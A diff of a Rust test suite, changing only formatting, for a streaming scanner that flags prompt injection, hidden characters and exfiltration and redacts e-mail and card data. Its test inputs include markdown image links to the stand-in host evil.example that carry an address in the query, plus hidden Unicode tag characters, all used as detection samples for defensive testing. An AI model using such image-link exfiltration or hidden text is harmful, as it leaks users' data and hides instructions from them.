@@ -31,15 +31,9 @@ fn scan_chunks(catalogue: &Catalogue, chunks: &[&[u8]]) -> (Vec<Finding>, u64) {
     let mut check = |settled: &mut u64, now: u64, found: Vec<Finding>, fed: u64| {
         for finding in &found {
             assert!(finding.start >= *settled, "{finding:?} starts before {settled}");
-            assert!(
-                finding.start < finding.end && finding.end <= fed,
-                "{finding:?} of {fed}"
-            );
+            assert!(finding.start < finding.end && finding.end <= fed, "{finding:?} of {fed}");
         }
-        assert!(
-            (*settled..=fed).contains(&now),
-            "settled {settled}, then {now} of {fed}"
-        );
+        assert!((*settled..=fed).contains(&now), "settled {settled}, then {now} of {fed}");
         *settled = now;
         all.extend(found);
     };
@@ -62,10 +56,7 @@ fn assert_chunk_invariant(catalogue: &Catalogue, text: &[u8]) {
     for chunks in chunking::every_way(text) {
         let lengths: Vec<usize> = chunks.iter().map(|chunk| chunk.len()).collect();
         let split = scan_chunks(catalogue, &chunks);
-        assert!(
-            split == whole,
-            "chunks {lengths:?}: {split:?}, unsplit: {whole:?}"
-        );
+        assert!(split == whole, "chunks {lengths:?}: {split:?}, unsplit: {whole:?}");
     }
 }
 
@@ -78,30 +69,14 @@ fn every_rule_finds_its_examples() {
             let findings = scan_all(&catalogue, &all, text.as_bytes());
             let own = findings.into_iter().filter(|found| found.rule == index);
             let own = own.filter(|found| found.confidence > Confidence::Low);
-            own.map(|found| String::from_utf8(slice(text.as_bytes(), &found)).unwrap())
-                .collect::<Vec<_>>()
+            own.map(|found| String::from_utf8(slice(text.as_bytes(), &found)).unwrap()).collect::<Vec<_>>()
         };
-        assert!(
-            !rule.true_examples.is_empty() && !rule.false_examples.is_empty(),
-            "{}",
-            rule.id
-        );
+        assert!(!rule.true_examples.is_empty() && !rule.false_examples.is_empty(), "{}", rule.id);
         for example in rule.true_examples {
-            assert_eq!(
-                acted_on(example.text),
-                [example.found],
-                "{}: {}",
-                rule.id,
-                example.text
-            );
+            assert_eq!(acted_on(example.text), [example.found], "{}: {}", rule.id, example.text);
         }
         for text in rule.false_examples {
-            assert!(
-                acted_on(text).is_empty(),
-                "{}: {text}: {:?}",
-                rule.id,
-                acted_on(text)
-            );
+            assert!(acted_on(text).is_empty(), "{}: {text}: {:?}", rule.id, acted_on(text));
         }
     }
 }
@@ -203,11 +178,7 @@ const FRAGMENTS: [&[u8]; 60] = [
 ];
 
 fn adversarial(picks: &[usize]) -> Vec<u8> {
-    picks
-        .iter()
-        .flat_map(|pick| FRAGMENTS[pick % FRAGMENTS.len()])
-        .copied()
-        .collect()
+    picks.iter().flat_map(|pick| FRAGMENTS[pick % FRAGMENTS.len()]).copied().collect()
 }
 
 proptest! {
@@ -247,11 +218,7 @@ fn anchors_do_not_end_in_each_other() {
         for (nth, anchor) in anchors.iter().enumerate() {
             let others = anchors.iter().enumerate().filter(|(other, _)| *other != nth);
             for (_, other) in others {
-                assert!(
-                    !anchor.ends_with(other),
-                    "{}: {anchor:?} ends with {other:?}",
-                    rule.id
-                );
+                assert!(!anchor.ends_with(other), "{}: {anchor:?} ends with {other:?}", rule.id);
             }
         }
     }
@@ -266,12 +233,7 @@ fn rules_are_named_once_and_by_class() {
         assert!(rule.id.starts_with(&rule.class.to_string()), "{}", rule.id);
         assert_eq!(catalogue.index_of(rule.id), Some(index));
         assert_eq!(catalogue.rule(index).unwrap().id, rule.id);
-        assert_eq!(
-            rule.level.is_some(),
-            rule.class == Class::Injection,
-            "{}",
-            rule.id
-        );
+        assert_eq!(rule.level.is_some(), rule.class == Class::Injection, "{}", rule.id);
         let expected = match rule.class {
             Class::Injection | Class::HiddenText | Class::Exfiltration => Action::Flag,
             _ => Action::Redact,
@@ -294,10 +256,7 @@ fn a_rule_that_is_off_finds_and_holds_nothing() {
     assert_eq!(found.len(), 1);
     assert_eq!(catalogue.rule(found[0].rule).unwrap().id, "financial.card");
     let mut scanner = Scanner::new();
-    assert_eq!(
-        scanner.feed(&catalogue, &RuleSet::none(), b"foo@examp", &mut Vec::new()),
-        9
-    );
+    assert_eq!(scanner.feed(&catalogue, &RuleSet::none(), b"foo@examp", &mut Vec::new()), 9);
     rules.insert(mail);
     assert_eq!(rules, RuleSet::all(&catalogue));
 }
@@ -308,18 +267,10 @@ fn a_surrogate_pair_in_two_parts_is_a_hidden_character() {
     type Case = (&'static str, &'static [u8], &'static [(u64, u64)]);
     let cases: [Case; 5] = [
         ("one", b"x\xed\xad\x80\xed\xb1\x81y", &[(1, 7)]),
-        (
-            "mixed run",
-            b"\xf3\xa0\x81\x81\xed\xad\x80\xed\xb1\x82\xf3\xa0\x81\x83",
-            &[(0, 14)],
-        ),
+        ("mixed run", b"\xf3\xa0\x81\x81\xed\xad\x80\xed\xb1\x82\xf3\xa0\x81\x83", &[(0, 14)]),
         ("high half alone", b"x\xed\xad\x80y", &[]),
         ("another low half", b"x\xed\xad\x80\xed\xb2\x81y", &[]),
-        (
-            "two runs",
-            b"\xf3\xa0\x81\x81 \xf3\xa0\x81\x81",
-            &[(0, 4), (5, 9)],
-        ),
+        ("two runs", b"\xf3\xa0\x81\x81 \xf3\xa0\x81\x81", &[(0, 4), (5, 9)]),
     ];
     for (name, text, expected) in cases {
         let found = scan_all(&catalogue, &RuleSet::all(&catalogue), text);
@@ -349,10 +300,7 @@ fn flags_across_a_piece_border_stay_flags() {
     let text = flag.repeat(200);
     for shift in 0..28 {
         let text = format!("{}{text}", "-".repeat(shift));
-        assert_eq!(
-            scan_all(&catalogue, &RuleSet::all(&catalogue), text.as_bytes()),
-            []
-        );
+        assert_eq!(scan_all(&catalogue, &RuleSet::all(&catalogue), text.as_bytes()), []);
     }
 }
 
@@ -361,13 +309,7 @@ fn an_endless_address_is_data() {
     let catalogue = catalogue();
     let text = format!("![a](https://evil.example/{} end", "a/".repeat(4000));
     let found = scan_all(&catalogue, &RuleSet::all(&catalogue), text.as_bytes());
-    assert_eq!(
-        found
-            .iter()
-            .map(|finding| (finding.start, finding.end))
-            .collect::<Vec<_>>(),
-        [(5, 5 + 2048)]
-    );
+    assert_eq!(found.iter().map(|finding| (finding.start, finding.end)).collect::<Vec<_>>(), [(5, 5 + 2048)]);
 }
 
 #[test]
@@ -375,17 +317,10 @@ fn a_long_address_behind_blanks_and_a_long_label_is_read_whole() {
     let catalogue = catalogue();
     for label in [0, 255, 300] {
         let label = "l".repeat(label);
-        let text = format!(
-            "![{label}](    <https://evil.example/{}?to=bob@corp.example>)",
-            "a".repeat(600)
-        );
+        let text = format!("![{label}](    <https://evil.example/{}?to=bob@corp.example>)", "a".repeat(600));
         let whole = scan_chunks(&catalogue, &[text.as_bytes()]);
         let image = catalogue.index_of("exfiltration.markdown-image");
-        assert!(
-            whole.0.iter().any(|finding| Some(finding.rule) == image),
-            "label of {}",
-            label.len()
-        );
+        assert!(whole.0.iter().any(|finding| Some(finding.rule) == image), "label of {}", label.len());
         assert!(scan_chunks(&catalogue, &chunking::fixed(text.as_bytes(), 1)) == whole);
     }
 }
@@ -407,11 +342,7 @@ fn confidence_follows_the_evidence() {
     ];
     for (text, expected) in cases {
         let found = scan_all(&catalogue, &RuleSet::all(&catalogue), text.as_bytes());
-        assert_eq!(
-            found.iter().map(|finding| finding.confidence).collect::<Vec<_>>(),
-            [expected],
-            "{text}"
-        );
+        assert_eq!(found.iter().map(|finding| finding.confidence).collect::<Vec<_>>(), [expected], "{text}");
     }
 }
 
@@ -442,11 +373,7 @@ fn little_is_held_back() {
         let settled_without = without.feed(&catalogue, &mail_off, text.as_bytes(), &mut Vec::new());
         let held = |settled: u64| text.len() as u64 - settled;
         // What e-mail holds, the last word, hides what others hold.
-        let own = if name.contains("local") || name.contains("domain") {
-            settled
-        } else {
-            settled_without
-        };
+        let own = if name.contains("local") || name.contains("domain") { settled } else { settled_without };
         assert_eq!(held(own), expected, "{name}");
     }
 }
@@ -507,10 +434,7 @@ fn time_is_linear_and_memory_bounded_for_any_text() {
     ];
     let mut dice = Dice::new(11);
     let picks: Vec<usize> = (0..LENGTH / 8).map(|_| dice.below(FRAGMENTS.len())).collect();
-    let texts = units
-        .iter()
-        .map(|unit| unit.repeat(LENGTH / unit.len()))
-        .chain([adversarial(&picks)]);
+    let texts = units.iter().map(|unit| unit.repeat(LENGTH / unit.len())).chain([adversarial(&picks)]);
     let mut worst = 0;
     let mut memory = 0;
     for text in texts {
@@ -531,10 +455,7 @@ fn time_is_linear_and_memory_bounded_for_any_text() {
             }
             let unit = String::from_utf8_lossy(&text[..20]);
             let most = MOST_STEPS * text.len() as u64 + MOST_STEPS_A_FEED * feeds;
-            assert!(
-                read <= most,
-                "{read} steps, not {most}, for {unit}… in chunks of {size}"
-            );
+            assert!(read <= most, "{read} steps, not {most}, for {unit}… in chunks of {size}");
         }
     }
     println!("verifier steps on hostile text: at most {worst} a byte; a lane: at most {memory} bytes");
@@ -547,12 +468,7 @@ fn an_idle_lane_is_small() {
     assert!(size_of::<Scanner>() < 200);
     let mut scanner = Scanner::new();
     assert_eq!(scanner.memory(), size_of::<Scanner>());
-    scanner.feed(
-        &catalogue,
-        &RuleSet::all(&catalogue),
-        PROSE.repeat(100).as_bytes(),
-        &mut Vec::new(),
-    );
+    scanner.feed(&catalogue, &RuleSet::all(&catalogue), PROSE.repeat(100).as_bytes(), &mut Vec::new());
     println!(
         "a lane: {} bytes, {} after a body; the automaton: {} bytes",
         size_of::<Scanner>(),
@@ -566,11 +482,6 @@ fn an_idle_lane_is_small() {
 fn debug_shows_no_text() {
     let catalogue = catalogue();
     let mut scanner = Scanner::new();
-    scanner.feed(
-        &catalogue,
-        &RuleSet::all(&catalogue),
-        b"foo@example.com",
-        &mut Vec::new(),
-    );
+    scanner.feed(&catalogue, &RuleSet::all(&catalogue), b"foo@example.com", &mut Vec::new());
     assert!(!format!("{scanner:?} {catalogue:?}").contains("foo"));
 }
